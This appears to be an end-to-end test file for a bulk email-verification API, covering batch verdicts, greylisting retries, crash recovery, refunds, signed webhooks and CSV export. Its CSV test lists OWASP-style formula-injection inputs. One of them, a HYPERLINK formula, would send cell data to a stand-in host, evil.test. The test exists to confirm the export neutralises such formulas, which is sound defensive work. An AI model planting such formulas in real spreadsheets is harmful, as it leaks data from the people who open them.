// Batch verification through the whole system: upload → queue by domain → hub → prober →
// results, with greylisting asked again on its schedule, a prober killed mid-job, refunds, and
// a signed webhook.
import { createServer } from 'node:http';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { meterCountsOf } from '../../edge/src/meter-line.ts';
import { balanceOf, jobWhen, okJson, type System, sqlRows, startSystem } from './harness.ts';
import { verifiedEvent, WebhookReceiver } from './webhook-receiver.ts';

let system: System;
let receiver: WebhookReceiver;

interface Job {
  status: string;
  progress: number;
  totalEmails: number;
  processedEmails: number;
  deliverableCount: number;
  undeliverableCount: number;
  riskyCount: number;
  unknownCount: number;
  catchAllCount: number;
  creditsCharged: number;
  creditsRefunded: number;
  completedAt: string | null;
  bounceEstimate: { percent: number; level: string } | null;
}

beforeAll(async () => {
  receiver = new WebhookReceiver();
  await receiver.listen();
  system = await startSystem({
    greylistDelayMs: 1500,
    credits: 5000,
    vars: {
      SECRETS_KEY: btoa(String.fromCharCode(...new Uint8Array(32).fill(7))),
      // The cost meter, as `npm run bench` runs it: its lines must reach the stack's output.
      RCPT_METER: 'true',
    },
  });
});

afterAll(async () => {
  await system?.close();
  receiver?.server.close();
});

async function createWebhookSecret(): Promise<string> {
  const { secret } = await okJson<{ secret: string }>(
    await system.api('/api/v1/webhooks/secret', { method: 'POST' }),
  );
  expect(secret).toMatch(/^whsec_/);
  return secret;
}

function mixedList(): { emails: string[]; expected: Map<string, string> } {
  const domains = system.world.domains;
  const expected = new Map<string, string>();
  const emails: string[] = [];
  const add = (email: string, subStatus: string) => {
    emails.push(email);
    expected.set(email, subStatus);
  };
  for (let index = 0; index < 400; index++) {
    const domain = `bulk-${String((index % 20) + 1).padStart(2, '0')}.test`;
    add(
      index % 4 === 0 ? `nobody${index}@${domain}` : `user${index}@${domain}`,
      index % 4 === 0 ? 'mailbox_not_found' : 'accepted_email',
    );
  }
  for (const local of ['alice', 'bob', 'carol']) add(`${local}@${domains.accept}`, 'accepted_email');
  for (let index = 0; index < 20; index++) add(`anyone${index}@${domains.catchall}`, 'catch_all');
  for (let index = 0; index < 10; index++) add(`user${index}@${domains.greylist}`, 'accepted_email');
  for (let index = 0; index < 10; index++) add(`user${index}@${domains.rbl}`, 'antispam_blocked');
  for (let index = 0; index < 10; index++) add(`user${index}@${domains.full}`, 'mailbox_full');
  for (let index = 0; index < 10; index++) add(`user${index}@${domains.disabled}`, 'mailbox_disabled');
  for (let index = 0; index < 10; index++) add(`user${index}@nullmx.test`, 'does_not_accept_mail');
  for (let index = 0; index < 10; index++) add(`user${index}@nonexistent.test`, 'invalid_domain');
  for (let index = 0; index < 12; index++) add(`user${index}@mailinator.com`, 'disposable');
  for (let index = 0; index < 5; index++) add(`not an address ${index}`, 'invalid_syntax');
  expect(emails).toHaveLength(500);
  return { emails, expected };
}

describe('batch verification end to end', () => {
  it('verifies a 500-address mixed list: right verdicts, greylisting retried, refunds, a signed webhook', async () => {
    const secret = await createWebhookSecret();
    const { emails, expected } = mixedList();
    const duplicates = [emails[1] ?? '', emails[2] ?? ''];
    const before = await balanceOf(system);
    const uploaded = await okJson<{
      jobId: string;
      totalEmails: number;
      duplicateCount: number;
      invalidRows: number;
      creditsCharged: number;
    }>(
      await system.api('/api/v1/bulk/upload', {
        json: { emails: [...emails, ...duplicates], webhookUrl: await webhookUrl() },
      }),
    );
    expect(uploaded).toMatchObject({
      totalEmails: 495,
      duplicateCount: 2,
      invalidRows: 5,
      creditsCharged: 495,
    });
    expect(await balanceOf(system)).toBe(before - 495);

    const early = await system.api(`/api/v1/bulk/results/${uploaded.jobId}`);
    if (early.status !== 200) expect(await early.json()).toMatchObject({ code: 'JOB_NOT_COMPLETED' });

    const delivery = await receiver.next(uploaded.jobId);
    const event = verifiedEvent<{ type: string; data: { job: Job } }>(secret, delivery);
    expect(event.type).toBe('job.completed');

    const { job } = await okJson<{ job: Job }>(await system.api(`/api/v1/bulk/status/${uploaded.jobId}`));
    // Catch-all: the 20 catch-all addresses and the 12 on mailinator.com, a disposable domain that accepts anything.
    expect(job).toMatchObject({
      status: 'completed',
      progress: 100,
      totalEmails: 495,
      processedEmails: 495,
      catchAllCount: 32,
    });
    expect(job.deliverableCount + job.undeliverableCount + job.riskyCount + job.unknownCount).toBe(495);
    // The RBL-blocked addresses are refunded; greylisted ones were retried until accepted.
    expect(job.creditsRefunded).toBe(10);
    expect(await balanceOf(system)).toBe(before - 495 + 10);
    expect(job.bounceEstimate?.percent).toBeGreaterThan(0);
    expect(event.data.job.status).toBe('completed');

    const { results } = await okJson<{ results: { email: string; subStatus: string }[] }>(
      await system.api(`/api/v1/bulk/results/${uploaded.jobId}`),
    );
    expect(results).toHaveLength(502);
    results.slice(0, 500).forEach((result, index) => {
      expect(result.email).toBe(emails[index]);
      expect({ email: result.email, subStatus: result.subStatus }).toEqual({
        email: result.email,
        subStatus: expected.get(result.email),
      });
    });
    expect(results.slice(500).map((result) => result.subStatus)).toEqual(
      duplicates.map((email) => expected.get(email)),
    );

    // Every kind of billable operation the job used was counted (the benchmark prices them).
    const metered: Record<string, number> = {};
    for (const counts of system.logs.map(meterCountsOf)) {
      for (const [kind, count] of Object.entries(counts ?? {})) metered[kind] = (metered[kind] ?? 0) + count;
    }
    // The job's results are written in its JobStore object (docs/architecture.md, "Where a job's
    // lists live"): its calls are counted at the caller and in the object.
    for (const kind of [
      'workerRequests',
      'doRequests',
      'doCalls',
      'queueWrites',
      'queueReads',
      'd1RowsRead',
      'd1RowsWritten',
    ])
      expect(metered[kind], kind).toBeGreaterThan(0);
  });

  it('completes a job whose prober is killed mid-way, losing nothing and charging once', async () => {
    const emails = [
      ...Array.from(
        { length: 300 },
        (_, index) => `user${index}@bulk-${String((index % 10) + 30).padStart(2, '0')}.test`,
      ),
      ...Array.from({ length: 5 }, (_, index) => `userlate${index}@${system.world.domains.greylist}`),
    ];
    // The account's default webhook says when the job is done.
    await okJson(await system.api('/api/v1/webhooks', { method: 'PUT', json: { url: await webhookUrl() } }));
    const before = await balanceOf(system);
    const { jobId } = await okJson<{ jobId: string }>(
      await system.api('/api/v1/bulk/upload', { json: { emails } }),
    );
    await system.stack.stopProber('SIGKILL');
    const { job: stalled } = await okJson<{ job: Job }>(await system.api(`/api/v1/bulk/status/${jobId}`));
    expect(stalled.status).toBe('processing');
    await system.stack.startProber();

    await receiver.next(jobId);
    const { job } = await okJson<{ job: Job }>(await system.api(`/api/v1/bulk/status/${jobId}`));
    expect(job).toMatchObject({
      status: 'completed',
      processedEmails: 305,
      deliverableCount: 305,
      creditsRefunded: 0,
    });
    expect(await balanceOf(system)).toBe(before - 305);
    const ledger = await sqlRows(
      system,
      `SELECT reason, delta FROM credit_ledger WHERE reference = '${jobId}'`,
    );
    expect(ledger).toEqual([{ reason: 'bulk_charge', delta: -305 }]);
  });

  it('answers the addresses behind a catch-all security gateway, named in the registry or not, through the tenant behind it', async () => {
    const { gateway, gatewayNoTenant, gatewayTenantRefuses, relayGateway } = system.world.domains;
    // The job's webhook says when it is done; it is signed with the account's secret.
    await createWebhookSecret();
    // docs/verdicts.md, "Catch-alls behind security gateways": [subStatus, verifiedVia].
    const expected: Record<string, [string, string]> = {
      [`alice@${gateway}`]: ['accepted_email', 'tenant'],
      [`bob@${gateway}`]: ['accepted_email', 'tenant'],
      [`nobody@${gateway}`]: ['mailbox_not_found', 'tenant'],
      [`someone@${gateway}`]: ['mailbox_not_found', 'tenant'],
      [`alice@${gatewayNoTenant}`]: ['catch_all', 'mx'],
      [`alice@${gatewayTenantRefuses}`]: ['catch_all', 'mx'],
      // A relay whose host name is in no registry: its behaviour and the domain's DNS decide.
      [`alice@${relayGateway}`]: ['accepted_email', 'tenant'],
      [`nobody@${relayGateway}`]: ['mailbox_not_found', 'tenant'],
      // Catch-all, and no tenant signal in its DNS: the MX's answer stands.
      [`anyone@${system.world.domains.catchall}`]: ['catch_all', 'mx'],
    };
    const { jobId } = await okJson<{ jobId: string }>(
      await system.api('/api/v1/bulk/upload', {
        json: { emails: Object.keys(expected), webhookUrl: await webhookUrl() },
      }),
    );
    await receiver.next(jobId);
    const { results } = await okJson<{
      results: {
        email: string;
        subStatus: string;
        checks: { isCatchAll: boolean | null };
        meta: { verifiedVia: string };
      }[];
    }>(await system.api(`/api/v1/bulk/results/${jobId}`));
    expect(
      Object.fromEntries(
        results.map((result) => [result.email, [result.subStatus, result.meta.verifiedVia]]),
      ),
    ).toEqual(expected);
    // The gateway accepts every address: each stays catch-all, whoever decided.
    expect(results.map((result) => result.checks.isCatchAll)).toEqual(results.map(() => true));
  });

  it('exports CSV whose cells no spreadsheet runs as formulas, whatever separator it splits on', async () => {
    // OWASP's CSV Injection cases, and formulas behind `;`, `,` and tab inside a cell.
    const notes = [
      '=1+2";=1+2',
      `=1+2'" ;,=1+2`,
      'x;=HYPERLINK("http://evil.test/?d="&A1)',
      'a,@SUM(1+1)',
      'b\t-2+3',
      '+33 1 23 45 67 89',
      '\tstarts with a tab',
      'plain; text, here',
    ];
    const quote = (value: string) => `"${value.replaceAll('"', '""')}"`;
    const upload = [
      'name,email,note',
      ...notes.map((note, index) => `row${index},user${index}@nonexistent.test,${quote(note)}`),
    ].join('\r\n');
    const { jobId } = await okJson<{ jobId: string }>(
      await system.api('/api/v1/bulk/upload', { body: upload, headers: { 'content-type': 'text/csv' } }),
    );
    await jobWhen<Job>(system, jobId, (job) => job.status === 'completed');
    const response = await system.api(`/api/v1/bulk/results/${jobId}?format=csv`);
    expect(response.status).toBe(200);
    const csv = await response.text();
    const table = parse(csv) as string[][];
    expect(table.slice(1).map((row) => row[2])).toEqual([
      `'=1+2";'=1+2`,
      `'=1+2'" ;,'=1+2`,
      `x;'=HYPERLINK("http://evil.test/?d="&A1)`,
      "a,'@SUM(1+1)",
      "b\t'-2+3",
      "'+33 1 23 45 67 89",
      "'\tstarts with a tab",
      'plain; text, here',
    ]);
    expect(table.slice(1).map((row) => row[3])).toEqual(notes.map(() => 'undeliverable'));
    // Every cell is quoted, and text split on any separator never starts a cell with a formula.
    for (const line of csv.trimEnd().split('\r\n'))
      expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
    for (const piece of csv.split(/[,;\t\r\n]/)) expect(piece).not.toMatch(/^[ "]*[=+\-@]/);
  });

  it('sends a test event once, while the request waits, and never retries it', async () => {
    let calls = 0;
    const failing = createServer((request, response) => {
      calls++;
      request.resume();
      response.writeHead(503).end();
    });
    await new Promise<void>((resolve) => failing.listen(0, '127.0.0.1', resolve));
    try {
      const address = failing.address();
      if (!address || typeof address === 'string') throw new Error('not listening');
      await createWebhookSecret();
      const url = `http://127.0.0.1:${address.port}/hooks`;
      await okJson(await system.api('/api/v1/webhooks', { method: 'PUT', json: { url } }));
      const { delivery } = await okJson<{ delivery: Record<string, unknown> }>(
        await system.api('/api/v1/webhooks/test', { method: 'POST' }),
      );
      expect(delivery).toMatchObject({
        eventType: 'webhook.test',
        state: 'failed',
        attempts: 1,
        lastStatus: 503,
        nextAttemptAt: null,
      });
      // The cron's webhook retries pass it by.
      expect((await fetch(`${system.stack.baseUrl}/__scheduled?cron=*/5+*+*+*+*`)).status).toBe(200);
      const { deliveries } = await okJson<{ deliveries: Record<string, unknown>[] }>(
        await system.api('/api/v1/webhooks/deliveries'),
      );
      expect(deliveries.find((entry) => entry.id === delivery.id)).toMatchObject({
        state: 'failed',
        attempts: 1,
      });
      expect(calls).toBe(1);
    } finally {
      failing.close();
      await okJson(
        await system.api('/api/v1/webhooks', { method: 'PUT', json: { url: await webhookUrl() } }),
      );
    }
  });
});

async function webhookUrl(): Promise<string> {
  return receiver.url();
}
